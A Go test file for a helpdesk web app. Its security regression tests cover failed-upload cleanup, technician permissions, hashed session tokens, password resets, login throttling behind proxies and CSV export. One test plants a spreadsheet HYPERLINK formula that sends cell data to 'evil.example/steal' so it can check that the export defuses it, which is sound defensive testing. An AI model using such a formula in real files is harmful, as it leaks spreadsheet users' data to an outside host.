package web_test

import (
	"context"
	"crypto/sha256"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aftercare/aftercare/internal/app"
	"github.com/aftercare/aftercare/internal/app/apptest"
	"github.com/aftercare/aftercare/internal/auth"
	"github.com/aftercare/aftercare/internal/config"
	"github.com/aftercare/aftercare/internal/i18n"
	"github.com/aftercare/aftercare/internal/model"
	"github.com/aftercare/aftercare/internal/request"
)

// filesUnder lists the regular files below dir.
func filesUnder(t *testing.T, dir string) []string {
	t.Helper()
	var out []string
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return nil
	})
	return out
}

// TestReplyStoresNothingWhenItFails guards finding 1 (web): a reply that
// fails validation keeps neither a file nor an attachment row, so no
// orphaned staff upload is left for anyone to fetch.
func TestReplyStoresNothingWhenItFails(t *testing.T) {
	f := newFixture(t)
	c := newClient(t, f.m, "en")
	c.loginStaff()
	page := "/requests/" + f.aliceReq.Number
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR0000")

	for _, tc := range []struct {
		name   string
		fields map[string]string
		status int
	}{
		{"body too long", map[string]string{"body": strings.Repeat("长", request.MaxBody+1), "visibility": "internal"}, http.StatusUnprocessableEntity},
		{"blank body", map[string]string{"body": "   ", "visibility": "internal"}, http.StatusUnprocessableEntity},
	} {
		res := c.multipart(page+"/reply", tc.fields, "pricing.png", png)
		if res.status != tc.status {
			t.Errorf("%s: got %d, want %d", tc.name, res.status, tc.status)
		}
	}
	// The customer's reply to a cancelled request fails too.
	cust := newClient(t, f.m, "en")
	cust.loginCustomer("alice@example.com")
	if _, err := f.m.Requests.ChangeStatus(context.Background(), f.alice, f.aliceReq.Number, model.StatusCancelled, ""); err != nil {
		t.Fatal(err)
	}
	res := cust.multipart("/portal/requests/"+f.aliceReq.Number+"/reply", map[string]string{"body": "one more photo"}, "p.png", png)
	if res.status != http.StatusConflict {
		t.Errorf("reply to a cancelled request: got %d, want 409", res.status)
	}
	var n int
	if err := f.m.Store.Read().QueryRow(context.Background(), "SELECT COUNT(*) FROM attachments").Scan(&n); err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Errorf("attachments after failed replies: got %d, want 0", n)
	}
	if left := filesUnder(t, f.m.Config.AttachmentDir()); len(left) != 0 {
		t.Errorf("files left after failed replies: %v", left)
	}
}

// TestTechnicianLimits guards finding 6 (web): technicians reply, note,
// change status and assign, but cannot classify requests or invite
// customers, and are not offered the controls.
func TestTechnicianLimits(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	hash, _ := auth.HashPassword(password)
	tech := &model.User{Email: "tech@example.com", Name: "Zhao Lei", Role: model.RoleTechnician, PasswordHash: hash, Active: true}
	if err := f.m.Store.CreateUser(ctx, tech); err != nil {
		t.Fatal(err)
	}
	carol := &model.Customer{Name: "Carol", Email: "carol@example.com"}
	if err := f.m.Store.CreateCustomer(ctx, carol); err != nil {
		t.Fatal(err)
	}
	r, err := f.m.Requests.Create(ctx, f.agent, request.CreateInput{Type: model.TypeRepair, Subject: "No power", CustomerID: carol.ID})
	if err != nil {
		t.Fatal(err)
	}
	c := newClient(t, f.m, "en")
	res := c.post("/login", url.Values{"login": {"tech@example.com"}, "password": {password}})
	if res.status != http.StatusSeeOther {
		t.Fatalf("technician login: %d", res.status)
	}
	page := "/requests/" + r.Number
	b := bundle(t)
	expect(t, "page", c.get(page), http.StatusOK, []string{`name="priority" disabled`, `name="team" disabled`, `name="category" disabled`},
		[]string{"/invite", b.T("en", "invite.button")})
	expect(t, "invite", c.post(page+"/invite", nil), http.StatusForbidden, nil, []string{"/portal/invite/"})
	// Changing the priority is refused; assigning (disabled fields are not sent) works.
	expect(t, "priority", c.post(page+"/update", url.Values{"priority": {"urgent"}, "assignee": {""}, "version": {"1"}}),
		http.StatusForbidden, nil, nil)
	res = c.post(page+"/update", url.Values{"assignee": {itoa(tech.ID)}, "version": {"1"}})
	if res.status != http.StatusSeeOther {
		t.Fatalf("technician assigns: got %d\n%.2000s", res.status, res.body)
	}
	got, err := f.m.Store.RequestByNumber(ctx, r.Number)
	if err != nil {
		t.Fatal(err)
	}
	if got.AssigneeID == nil || *got.AssigneeID != tech.ID || got.Priority != model.PriorityNormal {
		t.Errorf("after the technician's update: assignee %v, priority %s; want %d, normal", got.AssigneeID, got.Priority, tech.ID)
	}
	var invites int
	if err := f.m.Store.Read().QueryRow(ctx, "SELECT COUNT(*) FROM customer_invites").Scan(&invites); err != nil {
		t.Fatal(err)
	}
	if invites != 0 {
		t.Errorf("invites after the technician's attempt: %d", invites)
	}
}

// TestSessionsStoredHashed guards finding 8: the database holds only a
// hash of each session token, and cookies are Secure when the base URL is
// https.
func TestSessionsStoredHashed(t *testing.T) {
	f := newFixture(t)
	c := newClient(t, f.m, "en")
	c.loginStaff()
	u, _ := url.Parse(f.m.URL())
	var token string
	for _, ck := range c.hc.Jar.Cookies(u) {
		if ck.Name == "aftercare_session" {
			token = ck.Value
		}
	}
	if token == "" {
		t.Fatal("no session cookie")
	}
	ctx := context.Background()
	var n int
	if err := f.m.Store.Read().QueryRow(ctx, "SELECT COUNT(*) FROM sessions WHERE token_hash = $1", []byte(token)).Scan(&n); err != nil || n != 0 {
		t.Fatalf("session stored under its plain token: %d %v", n, err)
	}
	sum := sha256.Sum256([]byte(token))
	var kind string
	var id int64
	if err := f.m.Store.Read().QueryRow(ctx, "SELECT principal_kind, principal_id FROM sessions WHERE token_hash = $1", sum[:]).Scan(&kind, &id); err != nil {
		t.Fatalf("session by hash: %v", err)
	}
	if kind != "staff" || id != f.agent.ID {
		t.Errorf("session principal: %s %d, want staff %d", kind, id, f.agent.ID)
	}
	if res := c.get("/queue"); res.status != http.StatusOK {
		t.Errorf("queue with the session: %d", res.status)
	}

	// https base URL: Secure cookies without --secure-cookies.
	m := apptest.Start(t, apptest.Options{Configure: func(cfg *config.Config) { cfg.BaseURL = "https://help.example.com" }})
	hash, _ := auth.HashPassword(password)
	if err := m.Store.CreateUser(ctx, &model.User{Email: "agent@example.com", Name: "A", Role: model.RoleAgent, PasswordHash: hash, Active: true}); err != nil {
		t.Fatal(err)
	}
	res := newClient(t, m, "en").post("/login", url.Values{"login": {"agent@example.com"}, "password": {password}})
	if sc := res.header.Get("Set-Cookie"); !strings.Contains(sc, "aftercare_session=") || !strings.Contains(sc, "Secure") {
		t.Errorf("session cookie behind https: %q, want Secure", sc)
	}
}

// recordingMailer is the outbound-mail seam as the e-mail channel will
// fill it; it keeps what would have been sent.
type recordingMailer struct {
	mu    sync.Mutex
	links map[string]string // e-mail → link
}

func (m *recordingMailer) SendPasswordReset(_ context.Context, c *model.Customer, link string, _ time.Time) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.links[c.Email] = link
	return nil
}

func (m *recordingMailer) link(email string) string {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.links[email]
}

// TestPasswordReset guards finding 2: "forgot password" sends a
// single-use link (through the mail seam) that answers the same for
// unknown addresses, and setting a password through it ends the
// customer's other sessions, links and API tokens. Without outbound mail
// the page says how else to get a link, in both languages.
func TestPasswordReset(t *testing.T) {
	b := bundle(t)
	t.Run("no mail configured", func(t *testing.T) {
		f := newFixture(t)
		for _, lang := range i18n.Languages() {
			c := newClient(t, f.m, lang)
			expect(t, "login links to it", c.get("/portal/login"), http.StatusOK, []string{`href="/portal/forgot"`}, nil)
			expect(t, "forgot page", c.get("/portal/forgot"), http.StatusOK, []string{b.T(lang, "forgot.no_mail")}, []string{`name="email"`})
			expect(t, "forgot post", c.post("/portal/forgot", url.Values{"email": {"alice@example.com"}}), http.StatusConflict,
				[]string{b.T(lang, "forgot.no_mail")}, nil)
		}
	})

	mailer := &recordingMailer{links: map[string]string{}}
	m := apptest.Start(t, apptest.Options{Prepare: func(m *app.Main) { m.ResetMailer = mailer }})
	ctx := context.Background()
	hash, _ := auth.HashPassword(password)
	alice := &model.Customer{Name: "Alice", Email: "alice@example.com", PasswordHash: hash}
	if err := m.Store.CreateCustomer(ctx, alice); err != nil {
		t.Fatal(err)
	}
	// Alice is logged in on another device and has an API token.
	other := newClient(t, m, "en")
	other.loginCustomer("alice@example.com")
	token, _, err := m.Auth.CreateToken(ctx, model.Principal{Kind: model.KindOperator}, auth.TokenOwner{Email: "alice@example.com", Customer: true}, "", 0)
	if err != nil {
		t.Fatal(err)
	}

	c := newClient(t, m, "en")
	expect(t, "form", c.get("/portal/forgot"), http.StatusOK, []string{`name="email"`}, nil)
	unknown := c.post("/portal/forgot", url.Values{"email": {"nobody@example.com"}})
	known := c.post("/portal/forgot", url.Values{"email": {"Alice@Example.com"}})
	expect(t, "unknown address", unknown, http.StatusOK, []string{b.T("en", "forgot.sent")}, nil)
	expect(t, "known address", known, http.StatusOK, []string{b.T("en", "forgot.sent")}, nil)
	first := mailer.link("alice@example.com")
	expect(t, "asked again", c.post("/portal/forgot", url.Values{"email": {"alice@example.com"}}), http.StatusOK, nil, nil)
	link := mailer.link("alice@example.com")
	if !strings.Contains(link, "/portal/reset/") || link == first || mailer.link("nobody@example.com") != "" {
		t.Fatalf("mailed links: %v", mailer.links)
	}
	path := link[strings.Index(link, "/portal/reset/"):]
	expect(t, "reset form", c.get(path), http.StatusOK, []string{"Alice", b.T("en", "reset.page_title")}, nil)
	res := c.post(path, url.Values{"password": {"brand-new-pass"}, "password2": {"brand-new-pass"}})
	if res.status != http.StatusSeeOther || res.location != "/portal" {
		t.Fatalf("reset: got %d → %q", res.status, res.location)
	}
	expect(t, "signed in", c.get("/portal"), http.StatusOK, []string{b.T("en", "flash.password_reset")}, nil)
	expect(t, "link used up", newClient(t, m, "en").get(path), http.StatusNotFound, []string{b.T("en", "reset.invalid")}, nil)
	expect(t, "the earlier link ended too", newClient(t, m, "en").get(first[strings.Index(first, "/portal/reset/"):]),
		http.StatusNotFound, []string{b.T("en", "reset.invalid")}, nil)
	if res := other.get("/portal"); res.status != http.StatusSeeOther {
		t.Errorf("other device after the reset: got %d, want a redirect to the login", res.status)
	}
	if _, err := m.Auth.Authenticate(ctx, token); model.ErrorCode(err) != model.EUNAUTHORIZED {
		t.Errorf("API token after the reset: %v, want unauthorized", err)
	}
	if _, err := m.Auth.LoginCustomer(ctx, "alice@example.com", password, "10.0.0.1"); err == nil {
		t.Error("old password still works")
	}
	if _, err := m.Auth.LoginCustomer(ctx, "alice@example.com", "brand-new-pass", "10.0.0.1"); err != nil {
		t.Errorf("new password: %v", err)
	}
	// An invite link cannot be used as a reset link, nor the reverse.
	if res := c.get(strings.Replace(path, "/reset/", "/invite/", 1)); res.status != http.StatusNotFound {
		t.Errorf("reset secret on the invite path: got %d, want 404", res.status)
	}
	// The link is never in the audit log, only that one was requested.
	var secretLogged int
	secret := path[len("/portal/reset/"):]
	if err := m.Store.Read().QueryRow(ctx, "SELECT COUNT(*) FROM audit_log WHERE detail LIKE $1 OR target LIKE $1",
		"%"+secret+"%").Scan(&secretLogged); err != nil || secretLogged != 0 {
		t.Errorf("secret in the audit log: %d %v", secretLogged, err)
	}
	if !regexp.MustCompile(`^[a-z0-9_]+$`).MatchString(secret) {
		t.Errorf("secret %q", secret)
	}
}

// TestLoginThrottleBehindProxy guards finding 5 end to end: behind a
// trusted proxy (--trusted-proxies), the client address comes from
// X-Forwarded-For, so an attacker locks out only itself; without it, a
// client cannot escape its limit by writing the header itself.
func TestLoginThrottleBehindProxy(t *testing.T) {
	attack := func(c *client, xff string) response {
		var res response
		for range 12 {
			res = c.post("/login", url.Values{"login": {"agent@example.com"}, "password": {"guess-guess"}}, "X-Forwarded-For", xff)
		}
		return res
	}
	login := func(c *client, xff string) response {
		return c.post("/login", url.Values{"login": {"agent@example.com"}, "password": {password}}, "X-Forwarded-For", xff)
	}
	t.Run("trusted proxy", func(t *testing.T) {
		// A stopped clock, so that no token comes back during the attack
		// (one every 6 s; twelve argon2id checks can take that long).
		at := time.Now()
		m := apptest.Start(t, apptest.Options{Now: func() time.Time { return at },
			Configure: func(cfg *config.Config) { cfg.TrustedProxies = "127.0.0.1, ::1" }})
		addAgent(t, m)
		if res := attack(newClient(t, m, "en"), "203.0.113.9"); res.status != http.StatusTooManyRequests {
			t.Fatalf("attacker: got %d, want 429", res.status)
		}
		if res := login(newClient(t, m, "en"), "198.51.100.7"); res.status != http.StatusSeeOther {
			t.Errorf("the agent from another address: got %d, want 303", res.status)
		}
		if res := login(newClient(t, m, "en"), "203.0.113.9"); res.status != http.StatusTooManyRequests {
			t.Errorf("the attacker's address with the right password: got %d, want 429", res.status)
		}
	})
	t.Run("no trusted proxy", func(t *testing.T) {
		at := time.Now()
		m := apptest.Start(t, apptest.Options{Now: func() time.Time { return at }})
		addAgent(t, m)
		c := newClient(t, m, "en")
		attack(c, "203.0.113.9")
		if res := login(c, "198.51.100.77"); res.status != http.StatusTooManyRequests {
			t.Errorf("attacker forging X-Forwarded-For: got %d, want 429", res.status)
		}
	})
}

// addAgent creates agent@example.com with the test password.
func addAgent(t *testing.T, m *app.Main) {
	t.Helper()
	hash, _ := auth.HashPassword(password)
	if err := m.Store.CreateUser(context.Background(), &model.User{Email: "agent@example.com", Name: "Agent", Role: model.RoleAgent, PasswordHash: hash, Active: true}); err != nil {
		t.Fatal(err)
	}
}

// TestExportDefusesFormulas guards finding 3 end to end: a customer's
// subject written as a spreadsheet formula reaches the agent's CSV as
// text, and the download is in the audit log.
func TestExportDefusesFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/steal?d="&C2,"Open the manual")`
	if _, err := f.m.Requests.Create(ctx, f.alice, request.CreateInput{Type: model.TypeSupport, Subject: evil, Via: model.ChannelWeb}); err != nil {
		t.Fatal(err)
	}
	c := newClient(t, f.m, "en")
	c.loginStaff()
	res := c.get("/queue/export?format=csv")
	if res.status != http.StatusOK {
		t.Fatalf("export: %d", res.status)
	}
	if !strings.Contains(res.body, `"'=HYPERLINK(""http://evil.example`) || strings.Contains(res.body, `,"=HYPERLINK`) {
		t.Errorf("CSV export does not defuse the formula:\n%s", res.body)
	}
	page, err := f.m.Store.ListAudit(ctx, model.AuditFilter{Action: model.AuditExportDone})
	if err != nil || len(page.Items) != 1 || page.Items[0].ActorName != "Wang Fang" || page.Items[0].ClientAddr != "127.0.0.1" {
		t.Fatalf("audit of the export: %+v %v", page.Items, err)
	}
}

// TestAuditPage checks the admins' audit page in both languages: entries
// with who, what and from where, the action filter, and the CSV export
// (which is itself recorded).
func TestAuditPage(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	hash, _ := auth.HashPassword(password)
	admin := &model.User{Email: "root@example.com", Name: "Root Admin", Role: model.RoleAdmin, PasswordHash: hash, Active: true}
	if _, err := f.m.Auth.CreateUser(model.WithClientAddr(ctx, "192.0.2.10"), model.Principal{Kind: model.KindOperator, Name: "ops@host"},
		auth.UserInput{Email: admin.Email, Name: admin.Name, Role: admin.Role, Password: password}); err != nil {
		t.Fatal(err)
	}
	b := bundle(t)
	for _, lang := range i18n.Languages() {
		c := newClient(t, f.m, lang)
		if res := c.post("/login", url.Values{"login": {"root@example.com"}, "password": {password}}); res.status != http.StatusSeeOther {
			t.Fatalf("admin login: %d", res.status)
		}
		expect(t, "audit page", c.get("/admin/audit"), http.StatusOK, []string{b.T(lang, "audit.title"),
			b.T(lang, "audit.action.user.created"), "ops@host", "192.0.2.10", "root@example.com", `href="/admin/audit"`}, nil)
		expect(t, "filtered", c.get("/admin/audit?action=token.revoked"), http.StatusOK, []string{b.T(lang, "audit.empty")}, []string{"192.0.2.10"})
		res := c.get("/admin/audit?format=csv")
		if res.status != http.StatusOK || !strings.Contains(res.body, "root@example.com") || !strings.Contains(res.header.Get("Content-Disposition"), "aftercare-audit-") {
			t.Errorf("audit CSV: %d %q", res.status, res.body)
		}
	}
	if page, err := f.m.Store.ListAudit(ctx, model.AuditFilter{Action: model.AuditExportDone}); err != nil || len(page.Items) != 2 {
		t.Errorf("audit exports recorded: %d %v, want 2", len(page.Items), err)
	}
	// Agents see neither the page nor the menu entry.
	c := newClient(t, f.m, "en")
	c.loginStaff()
	expect(t, "agent", c.get("/admin/audit"), http.StatusForbidden, nil, []string{"ops@host"})
	expect(t, "agent's menu", c.get("/queue"), http.StatusOK, nil, []string{`href="/admin/audit"`})
}
